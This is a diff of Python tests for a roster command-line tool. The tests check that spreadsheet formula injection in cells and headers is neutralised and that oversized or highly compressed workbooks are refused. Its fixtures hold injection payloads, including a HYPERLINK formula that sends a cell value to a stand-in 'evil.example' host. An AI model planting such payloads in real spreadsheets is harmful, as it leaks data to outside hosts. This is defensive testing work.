@@ -258,7 +258,8 @@ def test_roster_text_never_becomes_a_live_formula(served, tmp_path):
     persons = pd.read_parquet(served / "city" / "persons.parquet").person_id
     evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
     roster = tmp_path / "roster.csv"
-    pd.DataFrame({"person_id": persons.iloc[:4], "note": [evil, "+1+1", "-2", "@SUM(A1)"]}).to_csv(
+    notes = [evil, "+1+1", "-2", "@SUM(A1)"]
+    pd.DataFrame({"person_id": persons.iloc[:4], "note": notes, evil: "x"}).to_csv(
         roster, index=False
     )
     for suffix in ("csv", "xlsx"):
@@ -266,14 +267,17 @@ def test_roster_text_never_becomes_a_live_formula(served, tmp_path):
         r = _roster_cli(served, roster, "--task", "relapse", "--out", out)
         assert r.returncode == 0, r.stderr
         if suffix == "csv":
-            notes = pd.read_csv(out, encoding="utf-8-sig", dtype=str).note.tolist()
+            written = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
+            header, notes = list(written.columns), written.note.tolist()
         else:
             sheet = load_workbook(out).worksheets[0]
-            column = [c.value for c in sheet[1]].index("note") + 1
+            header = [c.value for c in sheet[1]]
+            column = header.index("note") + 1
             cells = [sheet.cell(row=i, column=column) for i in range(2, 6)]
-            assert all(c.data_type != "f" for c in cells)
+            assert all(c.data_type != "f" for c in [*cells, *sheet[1]])
             notes = [c.value for c in cells]
         assert notes == ["'" + evil, "'+1+1", "-2", "'@SUM(A1)"]  # a plain number stays one
+        assert "'" + evil in header and evil not in header  # the roster's own header too
 
     # a formula in an input workbook is an error naming the cell, not an empty value
     book = Workbook()
@@ -286,12 +290,76 @@ def test_roster_text_never_becomes_a_live_formula(served, tmp_path):
         served, tmp_path / "formula.xlsx", "--task", "relapse", "--out", tmp_path / "f.csv"
     )
     assert r.returncode == 2 and "cell B3 holds a formula" in " ".join(r.stderr.split())
+    book = Workbook()
+    book.active.append(["person_id", '=HYPERLINK("http://evil.example")'])
+    book.save(tmp_path / "header.xlsx")
+    r = _roster_cli(
+        served, tmp_path / "header.xlsx", "--task", "relapse", "--out", tmp_path / "h.csv"
+    )
+    assert r.returncode == 2 and "cell B1 holds a formula" in " ".join(r.stderr.split())
     # a damaged workbook is a one-paragraph error, exit 2
     (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
     r = _roster_cli(
         served, tmp_path / "broken.xlsx", "--task", "relapse", "--out", tmp_path / "b.csv"
     )
     assert r.returncode == 2 and "cannot read roster" in " ".join(r.stderr.split())
+
+
+def _workbook(path: Path, rows: list[list[str]], text: str) -> Path:
+    """A workbook whose cell "LONG" holds `text`, written into its XML as another program
+    could: openpyxl itself would cut a cell to 32,767 characters."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    book = Workbook()
+    for row in rows:
+        book.active.append(row)
+    plain = path.with_suffix(".plain.xlsx")
+    book.save(plain)
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for part in src.infolist():
+            out.writestr(part, src.read(part.filename).replace(b"LONG", text.encode()))
+    plain.unlink()
+    return path
+
+
+def test_a_roster_cell_past_a_spreadsheets_limit_is_refused_naming_it(
+    served, tmp_path, monkeypatch
+):
+    """A 310 KB workbook holding one 300 MB cell ran 79 s, took 5.2 GB and wrote a 629 MB
+    CSV: a cell holds at most a spreadsheet's own 32,767 characters, and a workbook part that
+    unpacks past its limit is refused before it is read; either named."""
+    from features.core import io
+
+    persons = pd.read_parquet(served / "city" / "persons.parquet").person_id.tolist()
+    long = "x" * 40_000
+    pd.DataFrame({"person_id": persons[:3], "note": ["a", long, "b"]}).to_csv(
+        tmp_path / "long.csv", index=False
+    )
+    _workbook(
+        tmp_path / "long.xlsx",
+        [["person_id", "note"], [persons[0], "a"], [persons[1], "LONG"]],
+        long,
+    )
+    for name, where in (
+        ("long.csv", "row 3, column note: 40,000 characters"),
+        ("long.xlsx", "cell B3 holds 40,000 characters"),
+    ):
+        r = _roster_cli(served, tmp_path / name, "--task", "relapse", "--out", tmp_path / "o.csv")
+        message = " ".join(r.stderr.split())
+        assert r.returncode == 2 and where in message and "32,767" in message, message
+    # a part that unpacks past the limit (lowered here to 1 MiB, beside 2 MB of one repeated
+    # letter that packs into a few kilobytes) is refused before openpyxl reads a byte of it
+    monkeypatch.setattr(io, "MAX_WORKBOOK_PART", 2**20)
+    packed = _workbook(
+        tmp_path / "packed.xlsx", [["person_id", "note"], [persons[0], "LONG"]], "y" * 2_000_000
+    )
+    assert packed.stat().st_size < 50_000
+    r = _roster_cli(served, packed, "--task", "relapse", "--out", tmp_path / "p.csv")
+    message = " ".join(r.stderr.split())
+    assert r.returncode == 2 and "xl/worksheets/sheet1.xml unpacks to 2 MiB" in message, message
+    assert not list(tmp_path.glob("[op].csv"))
 
 
 def test_one_date_policy_for_every_path(api, served, tmp_path):
